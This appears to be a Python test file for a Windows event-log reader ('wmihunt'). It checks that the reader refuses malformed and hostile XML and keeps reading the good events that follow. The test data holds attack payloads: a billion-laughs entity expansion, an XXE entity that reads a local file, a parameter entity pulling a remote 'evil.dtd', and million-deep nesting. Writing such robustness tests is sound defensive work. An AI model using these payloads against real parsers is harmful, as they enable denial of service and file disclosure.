"""Hostile Windows event XML: unclosed tags, entity expansion, external entities, and
a million nested elements. Each bad event is rejected with its position and reason;
the good event after it is still read."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

from test_readers_helpers import collect, one, xml_event
from test_robustness_helpers import invariants

from wmihunt.normalize import is_relevant

GOOD = xml_event(1, data={"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "whoami"})
OTHER = xml_event(3, data={"Image": "C:\\x.exe"}, record=9)  # Sysmon 3: not relevant
REFUSED = (
    "XML DOCTYPE/ENTITY declaration: refused (entity expansion and external entities are "
    "not allowed)"
)
#: A billion laughs: &i; would expand to 10^9 "lol"s.
LAUGHS = (
    '<!DOCTYPE Event [<!ENTITY a "lol">'
    + "".join(
        f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


def _read(tmp_path: Path, text: str) -> tuple[list, object]:
    path = tmp_path / "events.xml"
    path.write_text(text, encoding="utf-8")
    invariants(path)  # never raises, balances, every error has position and reason
    events, entries = collect(path, want=is_relevant)  # as a scan reads
    return events, one(entries)


def test_unclosed_tag(tmp_path: Path) -> None:
    bad = GOOD.replace("</Data>", "", 1)
    column = bad.index("</EventData>")
    events, stats = _read(tmp_path, f"{bad}\n{GOOD}\n")
    assert (len(events), stats.read, stats.rejected) == (1, 2, 1)
    assert stats.errors == [
        {"position": "event 1 (line 1)", "reason": f"malformed XML: mismatched tag: line 1, "
                                                   f"column {column + 2}"}
    ]  # fmt: skip


def test_unclosed_event_at_the_end(tmp_path: Path) -> None:
    events, stats = _read(tmp_path, f"{GOOD}\n{GOOD.replace('</Event>', '')}")
    assert (len(events), stats.read, stats.rejected) == (1, 2, 1)
    assert stats.errors == [
        {"position": "line 2", "reason": "truncated event: no </Event> before the end of the data"}
    ]


def test_entity_expansion_is_refused_not_expanded(tmp_path: Path) -> None:
    bad = LAUGHS + GOOD.replace(">whoami<", ">&i;<")
    tracemalloc.start()
    started = time.perf_counter()
    events, stats = _read(tmp_path, f"{bad}\n{GOOD}\n")
    seconds = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (len(events), stats.read, stats.rejected) == (1, 2, 1)
    assert stats.errors == [{"position": "event 1 (line 1)", "reason": REFUSED}]
    assert peak < 20 << 20 and seconds < 5  # 10^9 "lol"s would be 3 GB
    assert events[0].data["CommandLine"] == "whoami"


def test_entity_expansion_in_an_event_that_would_be_skipped(tmp_path: Path) -> None:
    """A custom entity forces a full parse, so it is refused even where a plain irrelevant
    event would have been skipped unparsed."""
    bad = OTHER.replace("C:\\x.exe", "&lol;")
    events, stats = _read(tmp_path, f"{bad}\n{OTHER}\n{GOOD}\n")
    assert (len(events), stats.read, stats.skipped, stats.rejected) == (1, 3, 1, 1)
    assert stats.errors == [
        {"position": "event 1 (line 1)", "reason": "malformed XML: undefined entity: line 1, "
                                                   f"column {bad.index('&lol;')}"}
    ]  # fmt: skip


def test_external_entity_is_never_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    prolog = f'<?xml version="1.0"?>\n<!DOCTYPE Event [<!ENTITY x SYSTEM "file://{secret}">]>\n'
    bad = GOOD.replace(">whoami<", ">&x;<")
    events, stats = _read(tmp_path, f"{prolog}{bad}\n{GOOD.replace('whoami', '&x;')}\n{GOOD}\n")
    assert (len(events), stats.read, stats.rejected) == (1, 3, 2)
    assert stats.errors[0] == {"position": "event 1 (line 3)", "reason": REFUSED}
    # the second one has no DOCTYPE of its own: its &x; is simply undefined
    assert stats.errors[1]["position"] == "event 2 (line 4)"
    assert stats.errors[1]["reason"].startswith("malformed XML: undefined entity")
    assert not any("TOP-SECRET" in str(e.data) for e in events)


def test_parameter_entity_with_remote_dtd_is_refused(tmp_path: Path) -> None:
    bad = '<!DOCTYPE Event [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>' + GOOD
    events, stats = _read(tmp_path, f"{bad}\n{GOOD}\n")
    assert (len(events), stats.errors) == (1, [{"position": "event 1 (line 1)",
                                                "reason": REFUSED}])  # fmt: skip


def _deep(event: str, depth: int) -> str:
    nested = "<a>" * depth + "x" + "</a>" * depth
    return event.replace(">whoami<", f">{nested}<")


def test_a_million_nested_elements(tmp_path: Path) -> None:
    """10^6 levels (7 MB in one event): refused after 64 levels, in bounded time/memory."""
    deep = _deep(GOOD, 10**6)
    assert len(deep) > 7_000_000
    tracemalloc.start()
    started = time.perf_counter()
    events, stats = _read(tmp_path, f"{deep}\n{GOOD}\n")
    seconds = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (len(events), stats.read, stats.rejected) == (1, 2, 1)
    assert stats.errors == [
        {
            "position": "event 1 (line 1)",
            "reason": "elements nested deeper than 64 levels: not read",
        }
    ]
    assert seconds < 10 and peak < 100 << 20


def test_nesting_within_the_limit_is_read(tmp_path: Path) -> None:
    events, stats = _read(tmp_path, _deep(GOOD, 40) + "\n")
    assert (len(events), stats.errors) == (1, [])
    assert events[0].data["CommandLine"] == "x"  # the text of a nested Data element


def test_a_deep_event_that_is_not_relevant_is_skipped_unparsed(tmp_path: Path) -> None:
    deep = _deep(OTHER.replace("C:\\x.exe", "whoami"), 10**5)
    events, stats = _read(tmp_path, f"{deep}\n{GOOD}\n")
    assert (len(events), stats.read, stats.skipped, stats.errors) == (1, 2, 1, [])
    assert dict(stats.skipped_by_event) == {"Microsoft-Windows-Sysmon/Operational:3": 1}


def test_unknown_encoding_in_the_declaration(tmp_path: Path) -> None:
    """Regression (fuzzing): an unknown encoding name made expat raise LookupError, which
    escaped the reader and lost the rest of the file."""
    text = f'<?xml version="1.0" encoding="uuf-8"?>\n<Events>\n{GOOD}\n{GOOD}\n</Events>\n'
    events, stats = _read(tmp_path, text)
    assert (len(events), stats.read, stats.rejected) == (0, 2, 2)
    reason = "malformed XML: unknown encoding: uuf-8 (in the XML declaration)"
    assert stats.errors == [
        {"position": "event 1 (line 3)", "reason": reason},
        {"position": "event 2 (line 4)", "reason": reason},
    ]
